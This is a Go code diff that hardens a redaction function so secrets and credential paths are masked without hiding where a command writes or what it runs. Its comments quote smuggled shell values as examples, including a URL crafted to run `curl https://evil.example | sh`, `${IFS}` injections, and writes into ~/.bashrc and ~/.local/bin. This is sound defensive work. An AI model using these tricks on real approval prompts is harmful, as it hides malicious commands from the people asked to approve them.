@@ -33,8 +33,60 @@ func sensitiveSegment(seg string) bool {
 // RedactPath keeps a path up to (not including) its first sensitive element
 // and replaces that element and the rest with a short hash, so a person sees
 // where, but not what. Other paths are returned unchanged.
+//
+// What it hides never holds a ".." element: a reader cannot tell where
+// ".." after hidden elements leads (how many there were, whether one is a
+// symbolic link), and `~/.ssh/../.local/bin/git` shown as `~/[redacted:…]`
+// hid that it writes ~/.local/bin/git. So a path with ".." elements is
+// shown as written up to and including its last one, and only what follows
+// may be hidden: all of it when the part in view, cleaned lexically, is
+// inside a credential store (`~/.ssh/x/../[redacted:…]`), else from its
+// first sensitive element.
 func RedactPath(p string) string {
-	i := 0
+	last := lastDotDot(p)
+	if last < 0 {
+		return redactFrom(p, 0)
+	}
+	if last == len(p) || !insideStore(p[:last]) {
+		return redactFrom(p, last)
+	}
+	if strings.Trim(p[last:], "/") == "" {
+		return p
+	}
+	return p[:last] + "/[redacted:" + hashHex([]byte(p))[:12] + "]"
+}
+
+// lastDotDot returns the end of the last ".." element of p, or -1.
+func lastDotDot(p string) int {
+	for e := len(p); e > 0; {
+		s := strings.LastIndexByte(p[:e], '/') + 1
+		if p[s:e] == ".." {
+			return e
+		}
+		e = s - 1
+	}
+	return -1
+}
+
+// insideStore reports whether the path p, cleaned lexically, has a
+// sensitive element.
+func insideStore(p string) bool {
+	var elems []string
+	for e := range strings.SplitSeq(p, "/") {
+		switch {
+		case e == "" || e == ".":
+		case e == ".." && len(elems) > 0 && elems[len(elems)-1] != "..":
+			elems = elems[:len(elems)-1]
+		default:
+			elems = append(elems, e)
+		}
+	}
+	return slices.ContainsFunc(elems, sensitiveSegment)
+}
+
+// redactFrom is RedactPath for a p whose elements from i on hold no "..":
+// from the first sensitive element at or after i, the rest is hidden.
+func redactFrom(p string, i int) string {
 	for i < len(p) {
 		j := strings.IndexByte(p[i:], '/')
 		end := len(p)
@@ -176,24 +228,37 @@ func redactGated(s string, g secretGates) string {
 	// "Bearer x" is hidden whole.
 	rest := func(m []int) (int, int) { return m[5], m[1] }
 	if g.bearer {
-		s = replaceClipped(re.bearer, s, rest, false)
+		s = replaceClipped(re.bearer, s, rest, clip{ownWord: true})
 	}
 	if g.header {
-		s = replaceClipped(re.header, s, rest, true)
+		s = replaceClipped(re.header, s, rest, clip{scheme: true, ownWord: true, name: 1})
 	}
 	if g.user {
-		s = replaceClipped(re.user, s, submatch(4), false)
+		s = replaceClipped(re.user, s, submatch(4), clip{})
 	}
 	if g.assign {
-		s = replaceClipped(re.assign, s, submatch(2), false)
+		s = replaceClipped(re.assign, s, submatch(2), clip{name: 1})
 	}
 	if g.option {
-		s = replaceClipped(re.option, s, submatch(3), false)
+		s = replaceClipped(re.option, s, submatch(3), clip{ownWord: true, name: 1})
 	}
 	if g.token {
-		s = replaceClipped(re.token, s, submatch(0), false)
+		s = replaceClipped(re.token, s, submatch(0), clip{})
 	}
 	return s
+}
+
+// clip says how replaceClipped treats a pattern's matches.
+type clip struct {
+	// scheme: a first word and one space may be hidden too ("Basic x").
+	scheme bool
+	// ownWord: the value may be a word of its own, not part of the
+	// name's: one that reads as a path is shown (readsAsPath).
+	ownWord bool
+	// name is the submatch of the option, variable or header name (0:
+	// none): a name that says its value is a file or a program is shown
+	// with its value (refName).
+	name int
 }
 
 // submatch returns the span of submatch n of a match.
@@ -209,8 +274,12 @@ func submatch(n int) func(m []int) (int, int) {
 // one space may be hidden too ("Basic x"). Quoting is not trusted to tell
 // syntax from data: a script handed to a nested shell is quoted, and a
 // secret value that ran into `;touch${IFS}x` there hid the command from
-// the person asked to approve it.
-func replaceClipped(re *regexp.Regexp, s string, span func(m []int) (int, int), scheme bool) string {
+// the person asked to approve it. Nor is a token hidden when it has a ".."
+// element (hasDotDot), when it may be a word of its own and reads as a
+// path (readsAsPath), or when its name says it is a file or a program
+// (refName): each of those says where the command writes or what it runs.
+func replaceClipped(re *regexp.Regexp, s string, span func(m []int) (int, int), o clip) string {
+	scheme := o.scheme
 	idx := re.FindAllStringSubmatchIndex(s, -1)
 	if idx == nil {
 		return s
@@ -237,6 +306,9 @@ func replaceClipped(re *regexp.Regexp, s string, span func(m []int) (int, int), 
 		}
 		if c == a {
 			continue // nothing that can be hidden: left in view
+		}
+		if hasDotDot(s[a:c]) || o.ownWord && readsAsPath(s[a:c]) || o.name > 0 && m[2*o.name] >= 0 && refName(s[m[2*o.name]:m[2*o.name+1]]) {
+			continue // where it writes, what it runs: left in view
 		}
 		b.WriteString(s[last:a])
 		b.WriteString(redacted)
@@ -311,6 +383,57 @@ func redactURLs(s string) string {
 	return b.String()
 }
 
+// isUserinfo reports whether s can be a URL's userinfo as a command line
+// carries it unquoted: RFC 3986's unreserved characters, percent-encoding,
+// ':' and the sub-delimiters that are not the shell's syntax (!*+,=). A
+// quote, white space, '|', '&', ';', '<', '>', '(', ')', '$', '`', '\',
+// '{', '}', '^', '@' or anything else makes it not one.
+func isUserinfo(s string) bool {
+	for i := 0; i < len(s); i++ {
+		c := s[i]
+		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("-._~%:!*+,=", c) >= 0) {
+			return false
+		}
+	}
+	return true
+}
+
+// hasDotDot reports whether s has a ".." path element. A span that has
+// one is never hidden: from a word the kernel opens as a path
+// (`cp x X-Token:/../../.local/bin/git`, `cp x a://b?c=/../../x`) it
+// climbs out of the prefix in view to a place the reader would not see.
+func hasDotDot(s string) bool {
+	for e := range strings.SplitSeq(s, "/") {
+		if e == ".." {
+			return true
+		}
+	}
+	return false
+}
+
+// readsAsPath reports whether a secret's value that may be a word of its
+// own reads as a path: it starts with '/', '~' or '.' (which no token
+// shape, hex or JWT does). Such a value is shown: `tee -a X-Token: ~/.bashrc`
+// and `cp x bearer /home/u/.local/bin` write where they name, and a
+// command's path (`--password-command /tmp/x.sh`) is what runs. The cost: a
+// base64 secret that starts with '/' stays in view.
+func readsAsPath(s string) bool {
+	return s != "" && (s[0] == '/' || s[0] == '~' || s[0] == '.')
+}
+
+// refNameSuffixes end the names of options and variables whose value says
+// where a secret is, or what makes one, not the secret: a file, a
+// directory, a program (--password-file, RESTIC_PASSWORD_COMMAND,
+// msmtp's --passwordeval, a credential helper). Their values are shown.
+var refNameSuffixes = []string{"file", "files", "path", "dir", "command", "cmd", "helper", "process", "program", "script", "exec", "eval"}
+
+// refName reports whether name (an option, variable or header name that
+// matched secretName) names a reference rather than a secret.
+func refName(name string) bool {
+	l := strings.ToLower(name)
+	return slices.ContainsFunc(refNameSuffixes, func(s string) bool { return strings.HasSuffix(l, s) })
+}
+
 func isSchemeByte(c byte) bool {
 	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '+' || c == '.' || c == '-'
 }
@@ -322,7 +445,7 @@ func redactURL(u string) string {
 	// cut replaces the token at the start of u[a:e] with the marker.
 	cut := func(a, e int) string {
 		c := tokenEnd(u, a, e)
-		if c == a {
+		if c == a || hasDotDot(u[a:c]) {
 			return u[a:e]
 		}
 		return redacted + u[c:e]
@@ -336,7 +459,13 @@ func redactURL(u string) string {
 	var b strings.Builder
 	b.WriteString(u[:i])
 	pos := i
-	if at := strings.LastIndexByte(u[i:authEnd], '@'); at >= 0 {
+	// The userinfo ends at the first '@' (parsers differ on a second one:
+	// what follows the first stays in view for either reading) and is
+	// hidden only when it is one: in a command line, text with the shell's
+	// syntax in it is no userinfo (`https://evil.example|sh&&:@good.example/`
+	// runs `curl https://evil.example | sh`, and hiding "evil.example" as a
+	// credential showed a download from good.example).
+	if at := strings.IndexByte(u[i:authEnd], '@'); at >= 0 && isUserinfo(u[i:i+at]) {
 		b.WriteString(cut(i, i+at))
 		pos = i + at
 	}
@@ -395,7 +524,7 @@ func RedactText(s string) string {
 	if !strings.Contains(s, "/") {
 		return s
 	}
-	// Words are cut at white space, quotes, '=', ',', brackets and the
+	// Words are cut at white space, quotes, '=', ',', ':', brackets and the
 	// shell's syntax (a path redacted from its sensitive element to the
 	// end of its word must not take `;curl${IFS}x|sh` with it); the text is
 	// copied only from the first word that changes.
@@ -461,8 +590,9 @@ func (a Action) Redacted() Action {
 }
 
 // wordBreak reports whether c ends a word for RedactText's path redaction:
-// white space, quotes, '=', ',', brackets, and the shell's operators,
-// expansions and escapes (;&|()<>$`{}\).
+// white space, quotes, '=', ',', ':' (a list of paths, PATH=~/.ssh/x:/tmp/bin,
+// hid the directory after the sensitive one), brackets, and the shell's
+// operators, expansions and escapes (;&|()<>$`{}\).
 func wordBreak(c byte) bool {
-	return strings.IndexByte(" \t\n\"'=,[];&|()<>$`{}\\", c) >= 0
+	return strings.IndexByte(" \t\n\"'=,:[];&|()<>$`{}\\", c) >= 0
 }
